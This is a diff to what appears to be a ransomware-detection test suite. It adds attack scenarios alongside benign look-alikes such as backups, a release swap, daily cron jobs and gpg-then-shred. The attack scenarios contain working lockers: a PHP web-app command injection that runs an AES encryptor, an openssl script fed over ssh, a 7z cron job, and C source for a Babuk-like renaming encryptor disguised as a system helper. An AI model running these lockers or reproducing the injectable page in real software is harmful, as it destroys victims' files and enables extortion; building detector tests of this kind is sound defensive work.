@@ -1313,3 +1313,167 @@ sc_h38_ssh_sudo_forked_workers() {
   sshx deploy 'sudo /var/tmp/.w8-indexer /srv/nas/share /var/www/shop/uploads'
   rm -f /var/tmp/.w8-indexer
 }
+
+# ---- fourteenth batch, attacks: a PHP web app served by a root-started daemon as www-data (no login uid anywhere) whose
+# command-injection bug runs a PHP locker over the uploads and the share www-data can write; a non-interactive
+# `ssh … 'bash -s' < script` locker over file names with spaces and UTF-8; root's cron dropping to svc-nas with runuser
+# for a per-file `7z -p -mhe=on` + rm; a Babuk-like compiled locker renaming each file first, then rewriting it in place
+pre_h39_root_setsid_php_webshell() {
+  rm -rf /var/www/shop/public; install -d -o root -g root -m 755 /var/www/shop/public
+  cat > /var/www/shop/public/index.php <<'P'
+<?php echo "<h1>Shop status</h1><a href=tools.php?host=localhost>network check</a>";
+P
+  # the bug: an admin "network check" page that pastes the query string into a shell command
+  cat > /var/www/shop/public/tools.php <<'P'
+<?php $h = $_GET['host'] ?? 'localhost'; header('Content-Type: text/plain'); echo shell_exec("ping -c 1 -W 1 " . $h . " 2>&1");
+P
+  # the share group-writable for the web app's exports (the admin's convenience)
+  chgrp -R www-data /srv/nas/share; chmod -R g+rwX /srv/nas/share
+  H39_PORT=$(python3 -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1",0)); print(s.getsockname()[1])')
+}
+sc_h39_root_setsid_php_webshell() {
+  echo "files $(( $(find /srv/nas/share -type f | wc -l) + $(find /var/www/shop/uploads -type f | wc -l) )) dirs $(( $(find /srv/nas/share -type d | wc -l) + $(find /var/www/shop/uploads -type d | wc -l) ))" > $CASE/facts
+  # the shop's web server: started at boot by a root init script (setsid, no login uid), serving as www-data
+  setsid runuser -u www-data -- php -S 127.0.0.1:$H39_PORT -t /var/www/shop/public </dev/null >/dev/null 2>&1 &
+  local web=$!
+  for i in $(seq 50); do curl -s -o /dev/null "http://127.0.0.1:$H39_PORT/" && break; sleep 0.2; done
+  curl -s "http://127.0.0.1:$H39_PORT/" >/dev/null
+  # the intruder's request: the injected command writes a PHP locker to /tmp and runs it with php
+  local payload
+  payload=$(base64 -w0 <<'L'
+<?php
+$key = hash('sha256', 'w3b-sh3ll-k', true);
+foreach (['/var/www/shop/uploads', '/srv/nas/share'] as $root) {
+  $it = new RecursiveIteratorIterator(new RecursiveDirectoryIterator($root, FilesystemIterator::SKIP_DOTS), RecursiveIteratorIterator::SELF_FIRST);
+  foreach ($it as $p => $info) {
+    if ($info->isDir()) { @file_put_contents("$p/READ_ME_WSH.html", "<h1>Your files are encrypted</h1><p>wsh@onion.example</p>"); continue; }
+    if (str_ends_with($p, '.wsh') || basename($p) === 'READ_ME_WSH.html' || !$info->isFile()) continue;
+    $iv = random_bytes(12); $tag = '';
+    $c = openssl_encrypt(file_get_contents($p), 'aes-256-gcm', $key, OPENSSL_RAW_DATA, $iv, $tag);
+    if ($c !== false && file_put_contents("$p.wsh", $iv . $tag . $c) !== false) unlink($p);
+  }
+  @file_put_contents("$root/READ_ME_WSH.html", "<h1>Your files are encrypted</h1><p>wsh@onion.example</p>");
+}
+L
+)
+  curl -s -G --max-time 120 --data-urlencode "host=127.0.0.1; echo $payload | base64 -d > /tmp/.sess_9f2c1; php /tmp/.sess_9f2c1; rm -f /tmp/.sess_9f2c1" "http://127.0.0.1:$H39_PORT/tools.php" | tail -1
+  sleep 1; kill -- -$web 2>/dev/null; sleep 0.5
+  rm -rf /var/www/shop/public
+}
+pre_h40_ssh_bash_s_utf8_names() {
+  # a user's real folder names: spaces, umlauts, Cyrillic and CJK (the log hex-encodes them)
+  local w=/home/priya/work
+  mkdir -p "$w/Rechnungen März 2026" "$w/Отчёты" "$w/資料 Q4"
+  for n in "Angebot Müller GmbH.pdf" "Übersicht Kosten.xlsx" "Straße & Hausnummer.csv"; do head -c 12000 /dev/urandom > "$w/Rechnungen März 2026/$n"; done
+  for n in "отчёт за ноябрь.docx" "бюджет 2027.xlsx" "план.txt"; do head -c 9000 /dev/urandom > "$w/Отчёты/$n"; done
+  for n in "見積書 最終.pdf" "議事録 12月.docx"; do head -c 15000 /dev/urandom > "$w/資料 Q4/$n"; done
+  head -c 5000 /dev/urandom > "$w/résumé final (v2).odt"
+  chown -R priya: $w
+  cat > /var/tmp/.h40-l.sh <<'S'
+cd ~/work || exit 1
+find . -type f -print0 | while IFS= read -r -d '' f; do
+  openssl aes-256-cbc -salt -pbkdf2 -k 'Ut8-n4mes' -in "$f" -out "$f.locked" && rm -f "$f"
+done
+find . -type d -print0 | while IFS= read -r -d '' d; do printf 'Ваши файлы зашифрованы. Your files are encrypted: utf8@onion.example\n' > "$d/README – restore files.txt"; done
+S
+}
+sc_h40_ssh_bash_s_utf8_names() {
+  echo "files $(find /home/priya/work -type f | wc -l) dirs $(find /home/priya/work -type d | wc -l)" > $CASE/facts
+  # no tty, no interactive shell: the script is fed to bash -s on the ssh channel's stdin
+  sshx priya 'bash -s' < /var/tmp/.h40-l.sh
+  rm -f /var/tmp/.h40-l.sh
+}
+sc_h41_cron_root_runuser_7z() {
+  rm -f /tmp/.h41-done
+  echo "files $(find /srv/nas/share -type f | wc -l) dirs $(find /srv/nas/share -mindepth 1 -type d | wc -l)" > $CASE/facts
+  read m h < <(cron_at_next_minute)
+  cat > /etc/cron.d/nas-compact <<'CR'
+MM HH * * * root /usr/sbin/runuser -u svc-nas -- sh -c 'cd /srv/nas/share && find . -type f ! -name "*.7z" | while read -r f; do 7z a -bso0 -bsp0 -p"Q7-s3rv1ce" -mhe=on "$f.7z" "$f" && rm -f "$f"; done; for d in */; do echo "All files are packed with a password. q7@onion.example" > "$d/!RESTORE-7Z!.txt"; done'; touch /tmp/.h41-done
+CR
+  sed -i "s/^MM HH/$m $h/" /etc/cron.d/nas-compact
+  wait_cron /tmp/.h41-done; sleep 2; rm -f /etc/cron.d/nas-compact
+}
+pre_h42_ssh_sudo_babuk_rename_first() {
+  install -d -m 700 /root/.h42
+  cat > /root/.h42/b.c <<'C'
+#include <dirent.h>
+#include <fcntl.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <unistd.h>
+static const char *NOTE = "How To Restore Your Files.txt";
+static void lock(const char *p) {
+  char q[4200]; snprintf(q, sizeof q, "%s.babyk", p);
+  if (rename(p, q)) return;                       /* rename first: the name is taken before a byte changes */
+  int fd = open(q, O_RDWR); if (fd < 0) return;   /* then a second open rewrites it in place */
+  struct stat st; if (fstat(fd, &st) || st.st_size <= 0) { close(fd); return; }
+  unsigned char *b = malloc(st.st_size); ssize_t r = pread(fd, b, st.st_size, 0);
+  if (r == st.st_size) { unsigned int s = 0x2545f491u;
+    for (off_t i = 0; i < st.st_size; i++) { s ^= s << 13; s ^= s >> 17; s ^= s << 5; b[i] ^= (unsigned char)s; }
+    pwrite(fd, b, st.st_size, 0); fsync(fd); }
+  free(b); close(fd);
+}
+static void walk(const char *d) {
+  DIR *dir = opendir(d); struct dirent *e; char p[4096]; struct stat st; if (!dir) return;
+  snprintf(p, sizeof p, "%s/%s", d, NOTE);
+  FILE *f = fopen(p, "w"); if (f) { fputs("Your files are encrypted (Curve25519 + ChaCha). Contact babyk@onion.example\n", f); fclose(f); }
+  while ((e = readdir(dir))) {
+    if (!strcmp(e->d_name, ".") || !strcmp(e->d_name, "..") || !strcmp(e->d_name, NOTE) || strstr(e->d_name, ".babyk")) continue;
+    snprintf(p, sizeof p, "%s/%s", d, e->d_name); if (lstat(p, &st)) continue;
+    if (S_ISDIR(st.st_mode)) walk(p); else if (S_ISREG(st.st_mode)) lock(p);
+  }
+  closedir(dir);
+}
+int main(int c, char **v) { for (int i = 1; i < c; i++) walk(v[i]); return 0; }
+C
+  gcc -O2 -o /root/.h42/b /root/.h42/b.c && install -m 755 /root/.h42/b /usr/local/sbin/e2scrub-helper; rm -rf /root/.h42
+}
+sc_h42_ssh_sudo_babuk_rename_first() {
+  echo "files $(( $(find /srv/nas/share -type f | wc -l) + $(find /home/mkowalski/Documents -type f | wc -l) )) dirs $(( $(find /srv/nas/share -type d | wc -l) + $(find /home/mkowalski/Documents -type d | wc -l) ))" > $CASE/facts
+  sshx mkowalski 'sudo nohup /usr/local/sbin/e2scrub-helper /srv/nas/share /home/mkowalski/Documents >/dev/null 2>&1; echo rc=$?'
+  rm -f /usr/local/sbin/e2scrub-helper
+}
+
+# ---- fourteenth batch, look-alikes: duplicity's encrypted backup of a home (full, then incremental; originals kept),
+# a new release of a source tree unpacked with tar xJf and the old tree removed (thousands of creates and deletes),
+# root's daily maintenance (run-parts /etc/cron.daily: man-db, plocate's updatedb, dpkg's backups, logrotate; the
+# system rule set watches /var/lib, /var/cache and /var/backups) and an admin encrypting 8 exports to the ops key with
+# gpg -r and shredding the originals — the mirror image of an attack, done on purpose on a handful of files
+sc_b55_ssh_duplicity_home() {
+  sshx priya 'export PASSPHRASE=dup-pr1ya-26; duplicity full --no-print-statistics ~/work file:///home/priya/backup/dup >/dev/null && for f in $(find ~/work -type f | head -6); do head -c 2000 /dev/urandom >> "$f"; done && head -c 7000 /dev/urandom > ~/work/new-notes.txt && duplicity incremental --no-print-statistics ~/work file:///home/priya/backup/dup >/dev/null; ls ~/backup/dup | wc -l'
+  rm -rf /home/priya/backup /home/priya/.cache/duplicity
+}
+pre_b56_ssh_tar_xJ_new_release() {
+  rm -rf /home/tomas/src /home/tomas/Downloads; mkdir -p /home/tomas/src /home/tomas/Downloads /tmp/.b56/pylib-3.11.1
+  cp -a /usr/lib/python3.11/. /tmp/.b56/pylib-3.11.1/; find /tmp/.b56 -name __pycache__ -prune -exec rm -rf {} +
+  tar cJf /home/tomas/Downloads/pylib-3.11.1.tar.xz -C /tmp/.b56 pylib-3.11.1
+  mv /tmp/.b56/pylib-3.11.1 /home/tomas/src/pylib-3.11.0; rm -rf /tmp/.b56
+  chown -R tomas: /home/tomas/src /home/tomas/Downloads
+}
+sc_b56_ssh_tar_xJ_new_release() {
+  sshx tomas 'cd ~/src && tar xJf ~/Downloads/pylib-3.11.1.tar.xz && rm -rf pylib-3.11.0 && ln -sfn pylib-3.11.1 current && find pylib-3.11.1 -type f | wc -l'
+  rm -rf /home/tomas/src /home/tomas/Downloads
+}
+sc_b57_cron_root_daily_maintenance() {
+  rm -f /tmp/.b57-done
+  read m h < <(cron_at_next_minute)
+  # the daily scripts of the packages that keep databases (apt-compat is left out: without systemd it sleeps up to
+  # 30 min first, APT::Periodic::RandomSleep)
+  echo "$m $h * * * root cd / && run-parts --report --regex '^(dpkg|man-db|plocate|logrotate)\$' /etc/cron.daily; touch /tmp/.b57-done" > /etc/cron.d/daily-now
+  for i in $(seq 400); do [ -f /tmp/.b57-done ] && break; sleep 1; done; sleep 2; rm -f /etc/cron.d/daily-now
+}
+pre_b58_ssh_admin_gpg_recipient_shred() {
+  rm -rf /var/tmp/.ops; install -d -m 700 /var/tmp/.ops
+  gpg --homedir /var/tmp/.ops --batch --pinentry-mode loopback --passphrase '' --quick-gen-key 'Ops Team <ops@lab.internal>' rsa2048 encr never >/dev/null 2>&1
+  gpg --homedir /var/tmp/.ops --export --armor ops@lab.internal > /var/tmp/ops-pub.asc; rm -rf /var/tmp/.ops
+  su - mkowalski -c 'gpg --batch --import /var/tmp/ops-pub.asc' >/dev/null 2>&1; rm -f /var/tmp/ops-pub.asc
+  rm -rf /home/mkowalski/exports; mkdir -p /home/mkowalski/exports
+  for i in 01 02 03 04 05 06 07 08; do python3 -c "import random;r=random.Random($i);print('\n'.join(f'{r.randint(1,99999)};cust{r.randint(1,999)};{r.random()*1000:.2f}' for _ in range(400)))" > /home/mkowalski/exports/customers-2026-$i.csv; done
+  chown -R mkowalski: /home/mkowalski/exports
+}
+sc_b58_ssh_admin_gpg_recipient_shred() {
+  sshx mkowalski 'cd ~/exports && for f in customers-*.csv; do gpg --batch --yes --trust-model always -e -r ops@lab.internal "$f" && shred -u "$f"; done; ls'
+  rm -rf /home/mkowalski/exports /home/mkowalski/.gnupg
+}
